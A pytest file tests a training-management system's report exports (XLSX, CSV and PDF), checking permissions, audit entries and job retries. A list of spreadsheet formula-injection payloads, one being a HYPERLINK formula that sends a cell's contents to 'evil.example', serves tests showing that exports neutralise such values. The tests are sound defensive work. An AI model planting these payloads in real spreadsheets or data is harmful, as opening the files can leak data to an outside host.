"""Report exports: the files read back (XLSX, CSV, PDF), formula neutralisation, who may export
and download, the job's progress and audit, and a retried job."""

import csv
import io
import zipfile
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from pypdf import PdfReader
from sqlalchemy import select
from werkzeug.datastructures import MultiDict

from lms.assessments.paper import enter_scores
from lms.certificates.models import Certificate
from lms.core import cells
from lms.core.db import utcnow
from lms.core.models import AuditEvent, Job
from lms.extensions import db as _db
from lms.reports.exports import rows, services
from lms.reports.exports.writers import Counter, Cover, write_csv_zip, write_pdf, write_xlsx
from lms.reports.filters import ReportFilters
from lms.reports.tables import Chart, Table, report_tables
from tests import factories
from tests.conftest import api_headers, sign_in

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "   =1+1",
    "\t=cmd",
]


def _certify(enrollment, number: int, kind: str = "participation") -> Certificate:
    cohort = enrollment.cohort
    certificate = Certificate(
        enrollment_id=enrollment.id,
        user_id=enrollment.user_id,
        cohort_id=cohort.id,
        kind=kind,
        prefix="TST",
        year=2026,
        number=number,
        serial=f"TST-2026-{number:05d}",
        verification_code=f"code{number:08d}{enrollment.id}",
        holder_name=enrollment.user.full_name,
        holder_name_latin="",
        course_code=cohort.course.code,
        course_title=cohort.course.title,
        course_title_en=cohort.course.title_en,
        start_date=cohort.start_date,
        issued_on=cohort.end_date,
        hours=15,
        lead_trainer_name="Тренерка",
        organisation="Cascade",
        organisation_en="Cascade",
        verification_url="https://example.org/verify",
    )
    _db.session.add(certificate)
    _db.session.flush()
    return certificate


def _trained_cohort(people, *, region=None, scores=None, start=date(2026, 3, 2), course=None):
    """A closed training in ``region`` whose people (names, surname first) hold valid
    certificates; ``scores`` gives (pre, post) per person."""
    district = factories.DistrictFactory(region=region) if region else factories.DistrictFactory()
    cohort = factories.CohortFactory(
        district=district, status="closed", start_date=start, end_date=start + timedelta(days=1),
        **({"course": course} if course else {}),
    )  # fmt: skip
    institution = factories.InstitutionFactory(
        name="ЦСС Золотоніської громади", type="social_services_centre"
    )
    admin = factories.UserFactory(roles=["admin"])
    made = []
    for index, name in enumerate(people):
        surname, given = name.split(" ", 1)
        person = factories.UserFactory(
            full_name=f"{given} {surname}", surname=surname, sort_name=name, position="фахівчиня",
            institution=institution,
        )  # fmt: skip
        enrollment = factories.EnrollmentFactory(cohort=cohort, user=person)
        if scores and scores[index] is not None:
            pre, post = scores[index]
            enter_scores(enrollment, {"pre": pre, "post": post}, by=admin)
        made.append(_certify(enrollment, 1000 * cohort.id + index))
    return cohort, made


# --- cells ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE + ["  @x", " -1", "\r=2"])
def test_formula_like_text_is_neutralised_also_after_leading_spaces(text):
    assert cells.safe_cell(text).startswith("'")
    assert cells.csv_cell(text).startswith("'")


@pytest.mark.parametrize("value", [0, -2, 3.5, -0.25, date(2026, 1, 2), None, True])
def test_numbers_dates_and_empty_cells_are_left_as_they_are(value):
    assert cells.safe_cell(value) == value


def test_ordinary_text_is_left_alone_and_control_characters_dropped():
    assert cells.safe_cell("Черкаська область") == "Черкаська область"
    assert cells.safe_cell("a-b = c") == "a-b = c"
    assert cells.safe_cell("bad\x00\x07name") == "badname"
    assert cells.csv_cell(85.0) == "85" and cells.csv_cell(72.5) == "72.5" and cells.csv_cell(-3) == "-3"


# --- writers ----------------------------------------------------------------------------------


def _cover() -> Cover:
    return Cover(
        title="Звіт",
        lines=[("Період", "1 березня 2026 – 31 березня 2026"), ("Регіони", "Черкаська"), ("=danger", "+x")],
        definitions=["Навчені: ...", "=HYPERLINK(1)"],
    )


def _tables() -> list[Table]:
    hostile_rows = [
        (name, index, -index - 0.5, date(2026, 3, index + 1)) for index, name in enumerate(HOSTILE)
    ]
    return [
        Table(
            key="hostile",
            title="Hostile: [names]?",
            headers=["Name", "Count", "Negative", "Day"],
            rows=iter(hostile_rows),
            count=lambda: len(hostile_rows),
        ),
        Table(
            key="by_course",
            title="Trainings by course",
            headers=["Course", "Trainings", "Pre", "Post"],
            rows=[("ПТЛ-1", 4, 52.5, 81.0), ("ПТЛ-2", 2, 40.0, 77.5)],
            chart=Chart(label=0, values=(2, 3), title="Pre vs post"),
        ),
    ]


def test_the_xlsx_has_the_filters_sheet_first_then_one_sheet_per_table(app, tmp_path):
    path = tmp_path / "r.xlsx"
    with app.test_request_context():
        written = write_xlsx(path, _cover(), _tables())
    assert written == len(HOSTILE) + 2
    book = openpyxl.load_workbook(path)
    assert len(book.sheetnames) == 3
    cover = list(book.worksheets[0].iter_rows(values_only=True))
    assert cover[0][0] == "Звіт"
    assert ("Регіони", "Черкаська") in [tuple(r[:2]) for r in cover]
    assert ("'=danger", "'+x") in [tuple(r[:2]) for r in cover]
    assert any(r[1] == "Навчені: ..." for r in cover if len(r) > 1)
    assert any(r[1] == "'=HYPERLINK(1)" for r in cover if len(r) > 1)
    sheet = book.worksheets[1]
    assert "[" not in sheet.title and "?" not in sheet.title
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("Name", "Count", "Negative", "Day")
    for (name, count, negative, day), original in zip(values[1:], HOSTILE, strict=True):
        assert name == "'" + original
        assert isinstance(count, int) and isinstance(negative, float) and negative < 0
        assert day.date().month == 3
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s"  # text, never a formula
    assert list(book.worksheets[2].iter_rows(values_only=True))[1] == ("ПТЛ-1", 4, 52.5, 81)


def test_the_csv_zip_holds_the_filters_file_and_one_utf8_bom_file_per_table(app, tmp_path):
    path = tmp_path / "r.zip"
    with app.test_request_context():
        write_csv_zip(path, _cover(), _tables())
    with zipfile.ZipFile(path) as archive:
        assert archive.namelist() == ["00-filters.csv", "01-hostile.csv", "02-by_course.csv"]
        raw = archive.read("01-hostile.csv")
        cover = archive.read("00-filters.csv").decode("utf-8-sig")
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table[0] == ["Name", "Count", "Negative", "Day"]
    assert [row[0] for row in table[1:]] == ["'" + h for h in HOSTILE]
    assert table[1][1:] == ["0", "-0.5", "2026-03-01"]  # numbers stay numbers
    assert "Черкаська" in cover and "'=danger" in cover and "'=HYPERLINK(1)" in cover


def test_the_pdf_prints_title_filters_tables_and_a_chart_in_cyrillic_and_caps_its_rows(app, tmp_path):
    path = tmp_path / "r.pdf"
    many = Table(
        key="many", title="Багато рядків", headers=["Ім'я", "N"],
        rows=((f"Особа {i}", i) for i in range(40)), count=lambda: 40,
    )  # fmt: skip
    with app.test_request_context():
        written = write_pdf(path, _cover(), _tables() + [many], max_rows=25)
    assert written == len(HOSTILE) + 2 + 25
    reader = PdfReader(path)
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert reader.pages[0].mediabox.width > reader.pages[0].mediabox.height  # landscape
    assert "Звіт" in text and "Черкаська" in text and "Навчені" in text
    assert "Trainings by course" in text and "ПТЛ-1" in text
    assert "Особа 24" in text and "Особа 25" not in text
    assert "25" in text and "40" in text  # "the first 25 rows of 40 are printed"
    assert "Pre vs post" in text  # the chart's title, drawn


# --- the "People trained" rows ----------------------------------------------------------------


def test_people_trained_rows_name_surname_first_with_scores_in_alphabetical_order(app, db):
    region = factories.RegionFactory(name="Черкаська")
    cohort, _certs = _trained_cohort(
        ["Ярошенко Ірина", "Авраменко Олена", "Ґалаґан Марія", "Гнатюк Ольга"],
        region=region, scores=[(40, 80), (55, 90), None, (60, 72.5)],
    )  # fmt: skip
    with app.test_request_context():
        filters = ReportFilters(region_ids=(region.id,))
        table = list(rows.people_trained(filters))[0]
        found = list(table.rows)
        assert table.size() == 4
    assert [r[0] for r in found] == ["Авраменко Олена", "Гнатюк Ольга", "Ґалаґан Марія", "Ярошенко Ірина"]
    first = found[0]
    assert first[1] == "фахівчиня" and first[2] == "ЦСС Золотоніської громади"
    assert first[5] == "Черкаська" and first[6] == cohort.course.code
    assert first[8] == cohort.start_date and first[9] == cohort.end_date
    assert (first[10], first[11]) == (55, 90)
    assert (found[2][10], found[2][11]) == (None, None)
    assert found[0][12].startswith("TST-2026-")


def test_revoked_certificates_and_other_regions_are_not_rows(app, db):
    region = factories.RegionFactory()
    _cohort, certs = _trained_cohort(["Бойко Анна", "Коваль Яна"], region=region)
    _trained_cohort(["Мельник Тетяна"])
    certs[1].status, certs[1].revoked_reason = "revoked", "помилка"
    with app.test_request_context():
        found = list(rows.stream(ReportFilters(region_ids=(region.id,)), batch=1))
    assert [r[0] for r in found] == ["Бойко Анна"]


# --- the job: web, API, permissions, audit ----------------------------------------------------


@pytest.fixture
def cherkasy(db):
    region = factories.RegionFactory(name="Черкаська")
    _trained_cohort(
        ["Шевченко Олена", "=HYPERLINK(\"x\") Бондар", "Ткаченко Ніна"],
        region=region, scores=[(50, 90), (40, 70), (60, 80)],
    )  # fmt: skip
    return region


def _export(client, user, **form):
    sign_in(client, user)
    return client.post("/reports/exports", data=form)


def _rows_of(job: Job) -> int:
    """The rows of every table an export of ``job``'s filters writes (PDF: capped per table)."""
    sizes = [table.size() for table in report_tables(services.filters_of(job.params))]
    cap = services.PDF_MAX_ROWS if job.params["format"] == "pdf" else None
    return sum(min(size, cap) if cap else size for size in sizes)


def _job(response) -> Job:
    job_id = int(response.headers["Location"].rstrip("/").split("/")[-1])
    return _db.session.get(Job, job_id)


def test_a_coordinator_exports_her_region_to_xlsx_and_downloads_it(client, db, cherkasy, tmp_path):
    coordinator = factories.UserFactory(roles=["coordinator"], regions=[cherkasy], full_name="Оксана Коваль")
    response = _export(client, coordinator, format="xlsx", region_id=str(cherkasy.id))
    assert response.status_code == 303
    job = _job(response)
    assert job.kind == services.KIND and job.status == "done", job.error
    assert job.total == job.progress == _rows_of(job) > 3  # three people and the summary tables
    assert job.result["rows"] == _rows_of(job) and job.result["download_url"].endswith(
        f"/reports/exports/{job.id}/file"
    )
    page = client.get(f"/reports/exports/{job.id}")
    assert page.status_code == 200 and b'data-testid="download"' in page.data
    file = client.get(f"/reports/exports/{job.id}/download")
    assert file.status_code == 200 and file.mimetype.endswith("spreadsheetml.sheet")
    (tmp_path / "x.xlsx").write_bytes(file.data)
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cover = {r[0]: r[1] for r in book.worksheets[0].iter_rows(values_only=True) if r and r[0]}
    assert "Черкаська" in cover.values() and "Оксана Коваль" in cover.values()
    people = list(book.worksheets[-1].iter_rows(values_only=True))
    assert len(people) == 4
    assert [r[0] for r in people[1:]] == ['\'=HYPERLINK("x") Бондар', "Ткаченко Ніна", "Шевченко Олена"]
    assert isinstance(people[1][11], (int, float))


def test_every_export_is_audited_once_with_format_filters_and_rows(app, client, db, cherkasy):
    coordinator = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    job = _job(_export(client, coordinator, format="csv", **{"from": "2026-01-01", "to": "2026-12-31"}))
    events = _db.session.scalars(select(AuditEvent).where(AuditEvent.action == "report.export")).all()
    assert len(events) == 1
    event = events[0]
    assert event.actor_id == coordinator.id and event.object_id == job.id
    assert event.details["format"] == "csv" and event.details["rows"] == _rows_of(job)
    assert event.details["filters"]["region_id"] == [cherkasy.id]
    assert event.details["filters"]["from"] == "2026-01-01"
    from lms.core.audit_log import describe

    with app.test_request_context():
        line = describe([event], {coordinator.id: "Оксана"})[0]
    assert "report" in str(line.sentence) or "звіт" in str(line.sentence)
    assert "3" in line.details and "Черкаська" in line.details


def test_a_coordinator_cannot_export_another_region_and_trainers_cannot_export(client, db, cherkasy):
    coordinator = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    other = factories.RegionFactory()
    assert _export(client, coordinator, format="xlsx", region_id=str(other.id)).status_code == 403
    trainer = factories.UserFactory(roles=["trainer"])
    assert _export(client, trainer, format="pdf").status_code == 403
    participant = factories.UserFactory(roles=["participant"])
    response = client.post(
        "/api/v1/reports/exports", json={"format": "xlsx"}, headers=api_headers(participant)
    )
    assert response.status_code == 403
    response = client.post(
        "/api/v1/reports/exports",
        json={"format": "xlsx", "region_id": [cherkasy.id, other.id]},
        headers=api_headers(coordinator),
    )
    assert response.status_code == 403 and response.json["error"]["code"] == "forbidden"
    assert _db.session.scalar(select(Job.id).where(Job.kind == services.KIND)) is None


def test_bad_format_or_dates_are_shown_clearly(client, db, cherkasy):
    admin = factories.UserFactory(roles=["admin"])
    page = _export(client, admin, format="docx")
    assert page.status_code == 422 and b'data-testid="export-error"' in page.data
    response = client.post("/api/v1/reports/exports", json={"format": "xls"}, headers=api_headers(admin))
    assert response.status_code == 422 and "format" in response.json["error"]["fields"]
    response = client.post(
        "/api/v1/reports/exports", json={"format": "pdf", "from": "2026-02-30"}, headers=api_headers(admin)
    )
    assert response.status_code == 422 and "from" in response.json["error"]["fields"]


def test_the_api_starts_an_export_and_only_its_owner_or_an_admin_downloads_it(client, db, cherkasy):
    coordinator = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    response = client.post(
        "/api/v1/reports/exports?from=2026-01-01",
        json={"format": "pdf", "region_id": f"{cherkasy.id}"},
        headers=api_headers(coordinator),
    )
    assert response.status_code == 202
    job_id = response.json["job"]["id"]
    job = client.get(f"/api/v1/jobs/{job_id}", headers=api_headers(coordinator)).json
    assert job["status"] == "done" and job["total"] == job["progress"] == _rows_of(
        _db.session.get(Job, job_id)
    )
    url = job["result"]["download_url"]
    file = client.get(url, headers=api_headers(coordinator))
    assert file.status_code == 200 and file.data.startswith(b"%PDF")
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(file.data)).pages)
    assert "Шевченко" in text and "Черкаська" in text
    colleague = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    assert client.get(url, headers=api_headers(colleague)).status_code == 404
    assert client.get(f"/api/v1/jobs/{job_id}", headers=api_headers(colleague)).status_code == 404
    sign_in(client, colleague)
    assert client.get(f"/reports/exports/{job_id}").status_code == 404
    assert client.get(f"/reports/exports/{job_id}/download").status_code == 404
    admin = factories.UserFactory(roles=["admin"])
    assert client.get(url, headers=api_headers(admin)).status_code == 200


def test_a_job_of_another_kind_is_not_an_export(client, db):
    admin = factories.UserFactory(roles=["admin"])
    other = Job(
        kind="certificates.zip", task="x", status="done", params={"format": "xlsx"}, created_by_id=admin.id
    )
    _db.session.add(other)
    _db.session.flush()
    sign_in(client, admin)
    assert client.get(f"/reports/exports/{other.id}/download").status_code == 404
    assert client.get(f"/reports/exports/{other.id}").status_code == 404


def test_an_expired_export_is_gone_and_the_beat_deletes_its_file(client, db, cherkasy, app):
    admin = factories.UserFactory(roles=["admin"])
    job = _job(_export(client, admin, format="xlsx"))
    path = services.export_path(job)
    assert path.exists()
    job.finished_at = utcnow() - timedelta(days=8)
    _db.session.flush()
    assert client.get(f"/reports/exports/{job.id}/download").status_code == 404
    assert b'data-testid="expired"' in client.get(f"/reports/exports/{job.id}").data
    import os

    old = (utcnow() - timedelta(days=8)).timestamp()
    os.utime(path, (old, old))
    assert services.expire_files() >= 1
    assert not path.exists()


def test_a_retried_job_writes_one_file_and_one_audit_entry(app, db, cherkasy, monkeypatch):
    from lms.core import jobs
    from lms.core.outbox import publish_ready
    from lms.reports.exports import writers

    admin = factories.UserFactory(roles=["admin"])
    original, calls = writers.write_csv_zip, {"n": 0}

    def fails_once(path, cover, tables, counter=None):
        calls["n"] += 1
        if calls["n"] == 1:
            Path(path).write_bytes(b"half a file")
            raise OSError("disk full")
        return original(path, cover, tables, counter)

    monkeypatch.setitem(writers.WRITERS, "csv", fails_once)
    with app.test_request_context():
        job_id = services.start_export(MultiDict({"format": "csv"}), by=admin).id
    _db.session.commit()
    publish_ready()  # the eager task runs and fails half-way
    job = _db.session.get(Job, job_id)
    _db.session.refresh(job)
    assert job.status == "queued" and "disk full" in job.error
    path = services.export_path(job)
    assert not path.exists()  # the half-written file is never offered
    jobs.run_job(job_id, services.run_export)  # the sweep puts it back; it runs again
    jobs.run_job(job_id, services.run_export)  # and a doubled message does nothing
    _db.session.refresh(job)
    assert job.status == "done" and job.result["rows"] == _rows_of(job) and job.attempts == 2
    with zipfile.ZipFile(path) as archive:
        assert len(archive.namelist()) >= 2
    audited = _db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "report.export", AuditEvent.object_id == job_id)
    ).all()
    assert len(audited) == 1 and calls["n"] == 2


def test_progress_is_reported_as_rows_stream(app, db, tmp_path):
    reported = []
    counter = Counter(reported.append, every=10)
    table = Table(key="t", title="T", headers=["a"], rows=((i,) for i in range(25)), count=lambda: 25)
    with app.test_request_context():
        assert write_xlsx(tmp_path / "t.xlsx", _cover(), [table], counter) == 25
    assert reported == [10, 20, 25]


def test_a_coordinator_who_lost_her_region_gets_a_failed_job_not_a_file(app, db, cherkasy):
    from lms.core import jobs
    from lms.core.outbox import publish_ready

    coordinator = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    with app.test_request_context():
        job = services.start_export(MultiDict({"format": "xlsx"}), by=coordinator)
    coordinator.regions = []
    _db.session.commit()
    publish_ready()
    _db.session.refresh(job)
    assert job.status == "failed" and not services.export_path(job).exists()
    assert jobs.run_job(job.id, services.run_export).status == "failed"


def test_the_buttons_post_the_page_filters_with_a_csrf_token(app, db, csrf_enabled):
    from flask import render_template_string
    from flask_login import login_user

    coordinator = factories.UserFactory(roles=["coordinator"])
    filters = ReportFilters(start=date(2026, 1, 1), region_ids=(3, 5), course_ids=(7,))
    with app.test_request_context("/reports?from=2026-02-01&region_id=9"):
        login_user(coordinator)
        html = render_template_string('{% include "reports/_export_buttons.html" %}', filters=filters)
        from_args = render_template_string('{% include "reports/_export_buttons.html" %}')
    assert html.count("<form") == 3 and html.count('name="csrf_token"') == 3
    for fmt in ("xlsx", "csv", "pdf"):
        assert f'name="format" value="{fmt}"' in html
    assert html.count('name="region_id" value="3"') == 3 and 'name="region_id" value="5"' in html
    assert 'name="from" value="2026-01-01"' in html and 'name="course_id" value="7"' in html
    assert 'name="from" value="2026-02-01"' in from_args and 'name="region_id" value="9"' in from_args


def test_only_the_person_who_started_a_failed_export_starts_it_again(client, db, cherkasy):
    coordinator = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    job = Job(
        kind=services.KIND, task=services.TASK, status="failed", error="disk full", created_by_id=coordinator.id,
        params={"format": "csv", "token": "abc", "filters": {"region_id": [cherkasy.id]}, "locale": "uk"},
    )  # fmt: skip
    _db.session.add(job)
    _db.session.flush()
    colleague = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    sign_in(client, colleague)
    assert client.post(f"/reports/exports/{job.id}/retry").status_code == 404
    sign_in(client, coordinator)
    page = client.get(f"/reports/exports/{job.id}")
    assert b'data-testid="job-failed"' in page.data and b"disk full" in page.data
    assert client.post(f"/reports/exports/{job.id}/retry").status_code == 303
    _db.session.refresh(job)
    assert job.status == "done" and job.result["rows"] == _rows_of(job)
    assert client.get(f"/reports/exports/{job.id}/download").status_code == 200
    listing = client.get("/reports/exports")
    assert listing.status_code == 200 and f"/reports/exports/{job.id}/download".encode() in listing.data


def test_the_demo_gives_the_cherkasy_coordinator_a_ready_export_once(app, db, cherkasy):
    from seed import report_exports
    from seed.cohorts import COORDINATOR

    coordinator = factories.UserFactory(roles=["coordinator"], regions=[cherkasy])
    assert report_exports.load({COORDINATOR: coordinator}) == {"report_exports": 1}
    assert report_exports.load({COORDINATOR: coordinator}) == {"report_exports": 1}
    job = _db.session.scalars(select(Job).where(Job.kind == services.KIND)).one()
    assert job.status == "done" and job.result["rows"] == _rows_of(job) and services.is_available(job)
